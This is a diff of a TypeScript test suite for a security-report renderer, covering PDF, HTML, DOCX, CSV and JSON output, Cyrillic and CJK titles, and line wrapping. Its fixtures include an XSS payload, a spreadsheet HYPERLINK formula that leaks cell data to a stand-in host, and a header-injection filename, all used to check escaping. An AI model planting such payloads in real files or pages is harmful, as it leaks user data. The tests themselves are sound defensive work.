@@ -3,7 +3,12 @@ import { unzipSync, strFromU8 } from 'fflate';
 import { ReportIssue, ReportSnapshot } from '../src/domain/snapshot';
 import { REPORT_FORMATS } from '@bulwark/contracts';
 import { renderReport, reportFileType } from '../src/render';
+import { execFileSync } from 'node:child_process';
 import { renderPdf } from '../src/render/pdf';
+import { buildCompliance } from '../src/domain/compliance';
+import { breakOpportunities } from '../src/render/wrap';
+import { contentDisposition } from '../src/reports';
+import { REPORT_TYPES } from '@bulwark/contracts';
 
 const XSS_TITLE = 'Stored XSS: <script>alert(1)</script> & "quotes" in \'comments\'';
 const FORMULA_TITLE = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")';
@@ -97,15 +102,45 @@ function parseCsv(text: string): string[][] {
   return records;
 }
 
-/**
- * The text PDFKit draws with the standard fonts: each line is a TJ array of WinAnsi hex strings,
- * split wherever kerning shifts a glyph, so the pieces of one array are joined again.
- */
-function pdfText(pdf: Buffer): string[] {
-  const source = pdf.toString('latin1');
-  return [...source.matchAll(/\[((?:<[0-9a-f]*>\s*-?[\d.]*\s*)*)\]\s*TJ/g)].map((match) =>
-    [...match[1]!.matchAll(/<([0-9a-f]*)>/g)].map((hex) => Buffer.from(hex[1]!, 'hex').toString('latin1')).join(''),
-  );
+/** The text of a PDF as poppler's pdftotext reads it (reading order, one string). */
+function pdfText(pdf: Buffer): string {
+  return execFileSync('pdftotext', ['-layout', '-', '-'], { input: pdf, maxBuffer: 64 * 1024 * 1024 }).toString('utf8');
+}
+
+/** Dark pixels in the top left of page 1 (where the title is), rendered by poppler's pdftoppm. */
+function inkInTitle(pdf: Buffer): number {
+  const pgm = execFileSync('pdftoppm', ['-gray', '-r', '72', '-f', '1', '-l', '1', '-x', '30', '-y', '30', '-W', '300', '-H', '40', '-'], { input: pdf });
+  const header = pgm.toString('latin1').match(/^P5\s+\d+\s+\d+\s+\d+\s/)![0].length;
+  return pgm.subarray(header).filter((value) => value < 128).length;
+}
+
+const CYRILLIC_TITLE = 'Отчёт о безопасности за квартал';
+const CJK_TITLE = '季度安全报告';
+
+/** A snapshot of every type at once: each renderer draws whichever sections a snapshot has. */
+function typed(type: string, name: string): ReportSnapshot {
+  const listed = snapshot.top_issues.map((i) => i.id);
+  return {
+    ...snapshot,
+    report: { ...snapshot.report, type, name },
+    details: type === 'detailed' ? Object.fromEntries(listed.map((id) => [id, {
+      description: 'Описание: 描述 — user input reaches the query.\nSecond line.', remediation: 'Upgrade log4j-core to 2.17.1.',
+      history: [{ at: '2025-03-01T00:00:00.000Z', actor: 'bob', field: 'status', old_value: 'New', new_value: CONFIRMED, comment: 'Проверено' }],
+    }])) : undefined,
+    compliance: type === 'compliance' ? buildCompliance([
+      { cwes: [79, 89], severity: 'high', open: true, library: false, count: 4 },
+      { cwes: [502], severity: 'critical', open: true, library: true, count: 2 },
+      { cwes: [], severity: 'low', open: false, library: false, count: 1 },
+    ]) : undefined,
+    trend: type === 'trend' ? {
+      interval: 'day',
+      points: [
+        { start: '2025-03-01T00:00:00.000Z', end: '2025-03-02T00:00:00.000Z', opened: 5, fixed: 1, open: 4 },
+        { start: '2025-03-02T00:00:00.000Z', end: '2025-03-03T00:00:00.000Z', opened: 2, fixed: 3, open: 3 },
+      ],
+      fix_times: [{ severity: 'critical', fixed: 2, mean_days: 3.5 }, { severity: 'high', fixed: 0, mean_days: null }, { severity: 'medium', fixed: 0, mean_days: null }, { severity: 'low', fixed: 0, mean_days: null }, { severity: 'info', fixed: 0, mean_days: null }],
+    } : undefined,
+  };
 }
 
 describe('report renderers', () => {
@@ -134,11 +169,11 @@ describe('report renderers', () => {
       projects: [], tools: [], top_issues: [], top_issues_limit: 50,
     };
     const html = (await renderReport(empty, 'html')).body.toString('utf8');
-    expect(html).to.include('<dd>all (until 2025-04-01 00:00 UTC)</dd>');
-    expect(html).to.include('<dd>All projects visible to the author</dd>');
+    expect(html).to.include('<dd dir="auto">all (until 2025-04-01 00:00 UTC)</dd>');
+    expect(html).to.include('<dd dir="auto">All projects visible to the author</dd>');
     expect(html).to.include('<p class="empty">No open issues.</p>');
     expect((await renderReport(empty, 'csv')).body.toString('utf8').split('\r\n')).to.have.length(2);
-    expect(pdfText(await renderPdf(empty, { compress: false }))).to.include('No projects.');
+    expect(pdfText(await renderPdf(empty, { compress: true }))).to.include('No projects.');
     const xml = strFromU8(unzipSync(new Uint8Array((await renderReport(empty, 'docx')).body))['word/document.xml']!);
     expect(xml).to.include('No tools.');
   });
@@ -215,23 +250,34 @@ describe('report renderers', () => {
       expect(html).not.to.match(/<script/i);
     });
 
+    it('escapes scanned names inside its charts too', async () => {
+      const hostile = { ...snapshot, top_issues: [issue({ lib_name: '<script>alert(1)</script>', cwes: [79] })] };
+      const text = (await renderReport(hostile, 'html')).body.toString('utf8');
+      expect(text).to.include('Top libraries of open issues');
+      expect(text).to.include('&lt;script&gt;');
+      expect(text).not.to.match(/<script/i);
+    });
+
     it('is one document that loads nothing from elsewhere', () => {
       expect(html.startsWith('<!DOCTYPE html>')).to.equal(true);
       expect(html).to.include('<title>Quarterly security summary</title>');
       expect(html).not.to.match(/\b(src|href)=/i);
-      expect(html).not.to.match(/url\(/i);
+      // Only the charts' clip paths, which point inside the document.
+      expect(html.match(/url\([^)]*\)/gi)?.every((u) => /^url\(#[\w-]+\)$/.test(u)) ?? true).to.equal(true);
     });
 
     it('shows the header, totals, every project and the issues', () => {
       for (const code of ['WEBSHOP', 'BILLING-API']) expect(html).to.include(`<td>${code}</td>`);
       expect(html).to.include('<span class="value">1,234</span><span class="label">Issues</span>');
       expect(html).to.include('<span class="value">57</span><span class="label">Open</span>');
-      expect(html).to.include('<dd>quarter (2025-01-01 00:00 UTC – 2025-04-01 00:00 UTC)</dd>');
-      expect(html).to.include('<dd>alice@example.com</dd>');
+      expect(html).to.include('<dd dir="auto">quarter (2025-01-01 00:00 UTC – 2025-04-01 00:00 UTC)</dd>');
+      expect(html).to.include('<dd dir="auto">alice@example.com</dd>');
       expect(html).to.include(`<td>${CONFIRMED}</td>`);
       expect(html).to.include('<td>src/views/user,profile.tsx:42</td>');
       expect(html).to.include('<td>log4j-core@2.14.1</td>');
-      expect(html).to.include('<td>CWE-79, CWE-89</td>');
+      // Ids keep their hyphens from being line breaks.
+      expect(html).to.include('<td><span class="id">CWE-79</span>, <span class="id">CWE-89</span></td>');
+      expect(html).to.include('<td><span class="id">CVE-2021-44228</span></td>');
       expect(html).to.include('<td class="number">9.8</td>');
       expect(html).to.include('3 of 57 open issues listed');
     });
@@ -248,41 +294,90 @@ describe('report renderers', () => {
       const pdf = (await renderReport(snapshot, 'pdf')).body;
       expect(pdf.subarray(0, 5).toString('latin1')).to.equal('%PDF-');
       expect(pdf.subarray(-7).toString('latin1')).to.match(/%%EOF\n?$/);
-      // Compressed, so the page text is not readable as it stands.
-      expect(pdfText(pdf)).to.deep.equal([]);
     });
 
-    it('draws the report as text', async () => {
-      const lines = pdfText(await renderPdf(snapshot, { compress: false }));
-      expect(lines).to.include('Quarterly security summary');
-      expect(lines).to.include('BILLING-API');
-      expect(lines).to.include('Issues: 1,234');
-      expect(lines).to.include('3 of 57 open issues listed');
-      expect(lines.some((line) => /^Page 1 of \d+$/.test(line))).to.equal(true);
-      expect(lines).to.include('log4j-core@2.14.1');
-    });
-
-    it('replaces what the standard fonts cannot show and cuts long text with an ellipsis', async () => {
-      const lines = pdfText(await renderPdf(snapshot, { compress: false }));
-      // The en dash is WinAnsi 0x96; Cyrillic has no code there.
-      expect(lines).to.include('quarter (2025-01-01 00:00 UTC \x96 2025-04-01 00:00 UTC)');
-      expect(lines).to.include('?'.repeat(CONFIRMED.length));
-      const xssCell = lines.find((line) => line.startsWith('Stored XSS: <script>'));
-      expect(xssCell).to.match(/\x85$/);
-      expect(xssCell!.length).to.be.lessThan(XSS_TITLE.length);
-      expect(lines).to.include('Secret in history second line');
+    it('draws the report as text in every script, without cutting long values', async () => {
+      const text = pdfText(await renderPdf(snapshot, { compress: true }));
+      expect(text).to.include('Quarterly security summary');
+      expect(text).to.include('BILLING-API');
+      expect(text).to.include('Issues: 1,234');
+      expect(text).to.include('3 of 57 open issues listed');
+      expect(text).to.match(/Page 1 of \d+/);
+      expect(text).to.include('log4j-core@2.14.1');
+      expect(text).to.include('quarter (2025-01-01 00:00 UTC – 2025-04-01 00:00 UTC)');
+      expect(text).to.include(CONFIRMED);
+      expect(text).to.include('CVE-2021-44228');
+      // The long title wraps inside its cell: every word of it is there, none replaced by an ellipsis.
+      for (const word of ['Stored', 'XSS:', '<script>alert(1)<', '"quotes"', "'comments'"]) expect(text).to.include(word);
+      expect(text).not.to.include('…');
     });
 
     it('adds pages for long tables and numbers them', async () => {
       const many = Array.from({ length: 120 }, (_, index) => issue({ id: `issue-${index}`, title: `Finding number ${index}` }));
-      const lines = pdfText(await renderPdf({ ...snapshot, top_issues: many }, { compress: false }));
-      const pageCount = lines.filter((line) => /^Page \d+ of \d+$/.test(line)).length;
-      expect(pageCount).to.be.greaterThan(2);
-      expect(lines).to.include(`Page ${pageCount} of ${pageCount}`);
-      expect(lines).to.include('Finding number 119');
+      const text = pdfText(await renderPdf({ ...snapshot, top_issues: many }, { compress: true }));
+      const pages = [...text.matchAll(/Page \d+ of (\d+)/g)];
+      expect(pages.length).to.be.greaterThan(2);
+      expect(text).to.include(`Page ${pages.length} of ${pages.length}`);
+      expect(text).to.include('Finding number 119');
       // The column headers are repeated on every page the issue table runs onto.
-      expect(lines.filter((line) => line === 'First detected').length).to.be.greaterThan(1);
+      expect(text.match(/First detected/g)!.length).to.be.greaterThan(1);
     });
+  });
+
+  it('draws the glyphs of a CJK title, not blanks', async () => {
+    // pdftotext reads a font's character map, which is there even when its glyphs were embedded empty.
+    const blank = inkInTitle(await renderPdf(typed('summary', ''), { compress: true }));
+    const drawn = inkInTitle(await renderPdf(typed('summary', CJK_TITLE), { compress: true }));
+    expect(drawn - blank).to.be.greaterThan(100);
+  });
+
+  describe('every type in every format', () => {
+    for (const type of REPORT_TYPES) {
+      for (const title of [CYRILLIC_TITLE, CJK_TITLE]) {
+        it(`renders a ${type} report titled ${title}`, async () => {
+          const report = typed(type, title);
+          for (const format of REPORT_FORMATS) {
+            const body = (await renderReport(report, format)).body;
+            if (format === 'pdf') {
+              const text = pdfText(body);
+              expect(text, format).to.include(title);
+              expect(text, format).to.include(CONFIRMED);
+              if (type === 'detailed') expect(text).to.include('Upgrade log4j-core to 2.17.1.').and.include('Проверено');
+              if (type === 'compliance') expect(text).to.include('A03:2021').and.include('Injection').and.include('#1 CWE-79');
+              if (type === 'trend') expect(text).to.include('Mean time to fix').and.include('3.5');
+            } else if (format === 'docx') {
+              const files = unzipSync(new Uint8Array(body));
+              expect(strFromU8(files['word/document.xml']!), format).to.include(title);
+              // Each chart is an SVG with a PNG beside it.
+              expect(Object.keys(files).some((f) => f.endsWith('.svg')), format).to.equal(true);
+              expect(Object.keys(files).some((f) => f.endsWith('.png')), format).to.equal(true);
+            } else if (format === 'html') {
+              const html = body.toString('utf8');
+              expect(html).to.include(`<title>${title}</title>`);
+              expect(html).to.include('<svg');
+            } else if (format === 'json') {
+              expect(JSON.parse(body.toString('utf8')).report.name).to.equal(title);
+            } else {
+              expect(body.toString('utf8')).to.include('CVE-2021-44228');
+            }
+          }
+        });
+      }
+    }
+  });
+
+  it('wraps after spaces, path separators and CJK characters, never inside an id', () => {
+    expect(breakOpportunities('See CVE-2021-44228 in src/a,b.ts?x=1&y=2')).to.deep.equal(['See ', 'CVE-2021-44228 ', 'in ', 'src/', 'a,', 'b.ts?', 'x=1&', 'y=2']);
+    expect(breakOpportunities('安全 report')).to.deep.equal(['安', '全 ', 'report']);
+    expect(breakOpportunities('')).to.deep.equal([]);
+  });
+
+  it('names a download by its report, with an ASCII fallback', () => {
+    expect(contentDisposition(CYRILLIC_TITLE, 'pdf')).to.equal(
+      `attachment; filename="_ _ _ _ _.pdf"; filename*=UTF-8''${encodeURIComponent(`${CYRILLIC_TITLE}.pdf`)}`,
+    );
+    expect(contentDisposition('a/b\r\n"c".x', 'csv')).to.equal(`attachment; filename="a_b_c_.x.csv"; filename*=UTF-8''a_b_c_.x.csv`);
+    expect(contentDisposition('Q1 report', 'pdf')).to.equal(`attachment; filename="Q1 report.pdf"; filename*=UTF-8''Q1%20report.pdf`);
   });
 
   describe('docx', () => {
@@ -298,6 +393,8 @@ describe('report renderers', () => {
       expect(xml).to.include(CONFIRMED);
       expect(xml).to.include('3 of 57 open issues listed');
       expect(xml).to.match(/<w:pgSz [^>]*w:orient="landscape"/);
+      // Word may break at a hyphen: CVE ids get non-breaking ones.
+      expect(xml).to.match(/CVE<\/w:t>\s*<w:noBreakHyphen\/>\s*<w:t[^>]*>2021<\/w:t>\s*<w:noBreakHyphen\/>\s*<w:t[^>]*>44228/);
     });
   });
 });
